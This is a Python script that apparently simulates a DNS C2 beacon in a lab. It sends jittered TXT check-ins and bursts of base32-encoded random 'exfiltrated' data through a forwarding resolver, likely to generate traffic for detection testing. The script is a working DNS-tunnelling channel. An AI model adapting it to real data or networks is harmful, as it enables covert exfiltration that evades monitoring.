#!/usr/bin/env python3
"""DNS C2 beacon: an implant that checks in with TXT queries through the
host's resolver (the lab's dnsmasq, which forwards the zone to the C2 zone's
server on fs-ext).

Every interval*(1 +- jitter) seconds one TXT query for
<nonce>.<implant id>.<zone> (a fresh name each time, so no cache answers it);
with probability --burst-p a data burst follows: 6-30 TXT queries 0.05-0.4 s
apart whose names carry base32 chunks of "exfiltrated" data (1-2 labels of up
to 63 characters). A beat is skipped with probability --miss. Queries carry
an EDNS0 OPT record (1232 bytes), as current stub resolvers send; a truncated
answer is not retried over TCP. Bounded by --count and --deadline.
"""
import argparse, base64, os, random, socket, struct, time

ap = argparse.ArgumentParser()
ap.add_argument("--resolver", required=True)
ap.add_argument("--domain", required=True)
ap.add_argument("--interval", type=float, default=30)
ap.add_argument("--jitter", type=float, default=0.2)
ap.add_argument("--count", type=int, default=20)
ap.add_argument("--deadline", type=float, default=300)
ap.add_argument("--miss", type=float, default=0.0)
ap.add_argument("--burst-p", type=float, default=0.08)
ap.add_argument("--seed", type=int, default=0)
a = ap.parse_args()
rng = random.Random(a.seed)
end = time.time() + a.deadline
implant = "%08x" % rng.getrandbits(32)


def query(name):
    qid = rng.getrandbits(16)
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 1)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack("!HH", 16, 1)
    q += b"\x00" + struct.pack("!HHIH", 41, 1232, 0, 0)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)   # a new source port per query
    s.settimeout(3)
    try:
        s.sendto(q, (a.resolver, 53))
        s.recvfrom(4096)
    except OSError as e:
        print("dns beacon:", name[:40], e, flush=True)
    finally:
        s.close()


for i in range(a.count):
    if time.time() >= end:
        break
    if a.miss > 0 and i > 0 and rng.random() < a.miss:
        print("beat", i, "missed", flush=True)
    else:
        query(f"{rng.getrandbits(32):08x}.{implant}.{a.domain}")
        if rng.random() < a.burst_p:
            data = base64.b32encode(os.urandom(rng.randint(300, 1800))).decode().rstrip("=").lower()
            seq = 0
            while data and time.time() < end:
                k = rng.choice([1, 2])
                chunk = [data[j * 63:(j + 1) * 63] for j in range(k)]
                data = data[63 * k:]
                labels = ".".join(x for x in chunk if x)
                query(f"{labels}.{seq:x}.{implant}.{a.domain}")
                seq += 1
                time.sleep(rng.uniform(0.05, 0.4))
    sleep = a.interval * (1 + rng.uniform(-a.jitter, a.jitter))
    time.sleep(max(0.1, min(sleep, end - time.time())))
